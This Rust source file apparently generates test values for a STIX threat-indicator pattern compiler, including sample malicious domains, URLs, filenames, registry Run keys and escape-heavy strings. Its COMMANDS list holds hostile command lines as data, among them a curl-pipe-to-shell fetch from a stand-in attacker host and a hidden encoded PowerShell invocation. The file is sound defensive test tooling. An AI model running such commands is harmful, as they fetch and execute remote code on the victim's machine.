//! Values for generated patterns: realistic ones, and some with characters that targets have to escape.

use stixc::plan::schema::{PropertyType, Text};

use super::Numbers;

const DOMAINS: &[&str] = &[
    "evil.example",
    "cdn.evil.example",
    "a.b.c.evil.example",
    "bad-site.test",
    "update.windows-security.example",
    "xn--bro-hoa.example",
    "EVIL.Example",
    "_dmarc.phish.example",
];
const IPV4: &[&str] = &["198.51.100.7", "203.0.113.33", "192.0.2.1", "203.0.113.255", "198.51.100.128"];
const IPV4_PREFIXES: &[&str] =
    &["198.51.100.0/24", "203.0.113.32/28", "192.0.2.128/25", "203.0.113.33/32", "198.51.0.0/16"];
const IPV6: &[&str] = &["2001:db8::1", "2001:db8:0:1::ff", "2001:DB8::A"];
const IPV6_PREFIXES: &[&str] = &["2001:db8::/32", "2001:db8:1::/48", "2001:db8::8/125"];
const URLS: &[&str] = &[
    "http://evil.example/a",
    "http://evil.example/gate.php?id=1&b=2",
    "https://cdn.evil.example/Payload.exe",
    "http://198.51.100.7:8080/x/y",
    "http://evil.example/",
    "http://evil.example/a;b|c",
    "https://evil.example/%7Euser/in%20dex.html",
];
const EMAILS: &[&str] = &["bad@phish.example", "Invoice.Dept@evil.example", "o'neil+x@evil.example"];
const FILES: &[&str] = &[
    "evil.exe",
    "Invoice_2024.pdf.exe",
    "payload.dll",
    "driver.sys",
    "run.sh",
    "a b.doc",
    "50% off.txt",
    "büro.docx",
    "it's;here.bin",
];
const FOLDERS: &[&str] =
    &["C:\\Windows\\Temp", "C:\\Users\\Public\\Evil", "/tmp", "/usr/local/bin", "C:\\Program Files\\A_B", "D:\\"];
const KEYS: &[&str] = &[
    "HKEY_LOCAL_MACHINE\\Software\\Evil",
    "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    "HKEY_LOCAL_MACHINE\\System\\CurrentControlSet\\Services\\evil_svc",
];
const COMMANDS: &[&str] = &[
    "powershell.exe -nop -w hidden -enc SQBFAFgA",
    "cmd.exe /c \"whoami > C:\\out.txt\"",
    "rundll32 evil.dll,#1",
    "curl -s http://evil.example/x | sh",
    "C:\\Windows\\System32\\evil.exe --all *?",
    "sh -c 'echo $HOME; id'",
];
const AGENTS: &[&str] = &["EvilBot/1.0", "Mozilla/5.0 (compatible; MSIE 9.0; Evil)", "curl/7.*", "a|b;c\\d"];
const PATHS: &[&str] = &["/gate.php?id=1", "/a/b.html", "/%7Ex", "/Index.HTML", "/a;b|c"];
const WORDS: &[&str] =
    &["invoice", "Evil", "Urgent: pay now!", "a_b%c", "évil", "x*y?z", "it's \"q\"", "a\\b", "tab;pipe|"];
const NASTY: &[&str] =
    &["'", "\"", "\\", "*", "?", ";", "|", "%", "_", "$", "(", "[", "{", "é", "€", "😀", ",", ":", "#", "\\\\"];
const PROTOCOLS: &[&str] = &["tcp", "udp", "ipv4", "ipv6", "http", "dns", "tls", "icmp"];
const METHODS: &[&str] = &["GET", "POST", "HEAD", "get"];
const LEVELS: &[&str] = &["low", "medium", "high", "system"];

/// Integers that suit a property.
pub fn numbers(path: &str) -> &'static [i64] {
    if path.ends_with("_port") {
        &[80, 443, 4444, 53, 8080, 25, 65535, 0]
    } else if path.ends_with("size") {
        &[1024, 378_880, 0, 1, 5_000_000_000]
    } else {
        &[0, 1, 2, 4, 224, 332, 4096, 65_536]
    }
}

/// Texts that suit a property.
pub struct Pool {
    values: &'static [&'static str],
    digits: usize,
    pub prefixes: Option<&'static [&'static str]>,
    takes_any: bool,
}

impl Pool {
    pub fn of(path: &str, kind: PropertyType) -> Self {
        let plain = |values| Self { values, digits: 0, prefixes: None, takes_any: true };
        let strict = |values| Self { takes_any: false, ..plain(values) };
        match kind {
            PropertyType::Hash(algorithm) => Self { digits: algorithm.digits.unwrap_or(32), ..strict(&[]) },
            PropertyType::String(Text::DomainName) => strict(DOMAINS),
            PropertyType::String(Text::Ipv4Address) => Self { prefixes: Some(IPV4_PREFIXES), ..strict(IPV4) },
            PropertyType::String(Text::Ipv6Address) => Self { prefixes: Some(IPV6_PREFIXES), ..strict(IPV6) },
            PropertyType::String(Text::Endpoint) if path.contains("dst") => {
                Self { prefixes: Some(IPV4_PREFIXES), ..strict(&["198.51.100.7", "2001:db8::1", "evil.example"]) }
            }
            PropertyType::String(Text::Endpoint) => Self { prefixes: Some(IPV4_PREFIXES), ..strict(IPV4) },
            PropertyType::String(Text::Url) => strict(URLS),
            PropertyType::String(Text::EmailAddress) => strict(EMAILS),
            PropertyType::String(Text::FileName) => plain(FILES),
            PropertyType::String(Text::Path) => plain(FOLDERS),
            PropertyType::String(Text::RegistryKey) => plain(KEYS),
            PropertyType::Vocabulary(vocabulary) => {
                strict(if vocabulary.values == LEVELS { LEVELS } else { vocabulary.values })
            }
            _ if path.ends_with("imphash") => Self { digits: 32, ..strict(&[]) },
            _ if path.contains("protocols") => strict(PROTOCOLS),
            _ if path.ends_with("request_method") => strict(METHODS),
            _ if path.ends_with("request_version") => strict(&["http/1.1", "HTTP/1.1", "HTTP/1.0"]),
            _ if path.ends_with("request_value") => plain(PATHS),
            _ if path.ends_with("'User-Agent'") => plain(AGENTS),
            _ if path.ends_with(".Host") => strict(DOMAINS),
            _ if path.ends_with("command_line") => plain(COMMANDS),
            _ if path.ends_with("serial_number") => strict(&["0a:1b:2c", "36f7d432f4abfb8b", "00:C3:a9:07"]),
            _ if path.ends_with("issuer") || path.ends_with("subject") && path.starts_with("x509") => {
                plain(&["CN=Evil CA, O=Evil Ltd", "CN=evil.example"])
            }
            _ => plain(WORDS),
        }
    }

    /// A realistic one.
    pub fn value(&self, numbers: &mut Numbers) -> String {
        if self.digits > 0 {
            let digits: &[u8] = if numbers.percent(20) { b"0123456789ABCDEF" } else { b"0123456789abcdef" };
            return (0..self.digits).map(|_| char::from(*numbers.pick(digits))).collect();
        }
        (*numbers.pick(self.values)).to_owned()
    }

    /// One with characters that are hard to write down, where the property takes any text.
    pub fn nasty(&self, numbers: &mut Numbers) -> String {
        let mut text = self.value(numbers);
        if self.takes_any {
            for _ in 0..1 + numbers.below(4) {
                let piece: &str = numbers.pick::<&str>(NASTY);
                text.push_str(piece);
            }
            text.push('x');
        }
        text
    }

    /// A prefix, for those that hold addresses.
    pub fn prefix(&self, numbers: &mut Numbers) -> &'static str {
        self.prefixes.map_or("192.0.2.0/24", |prefixes| *numbers.pick(prefixes))
    }
}

/// A LIKE text around a value.
pub fn like(value: &str, numbers: &mut Numbers) -> String {
    let characters: Vec<char> = value.chars().collect();
    let half = characters.len().div_ceil(2);
    let (front, back): (String, String) = (characters[..half].iter().collect(), characters[half..].iter().collect());
    match numbers.below(6) {
        0 => format!("%{value}"),
        1 => format!("{value}%"),
        2 => format!("%{value}%"),
        3 => format!("{front}%{back}"),
        4 => format!("%{back}"),
        _ => format!("{front}_%"),
    }
}

/// A regular expression around a value.
pub fn expression(value: &str, numbers: &mut Numbers) -> String {
    let escaped = regex_syntax::escape(value);
    match numbers.below(8) {
        0 => format!("^{escaped}$"),
        1 => escaped,
        2 => format!("(?i){escaped}"),
        3 => format!("^{escaped}"),
        4 => format!("{escaped}$"),
        5 => format!("^[a-z0-9]{{2,}}{escaped}"),
        6 => format!("({escaped}|evil[0-9]+)"),
        _ => format!("{escaped}.*[A-F]{{3}}$"),
    }
}
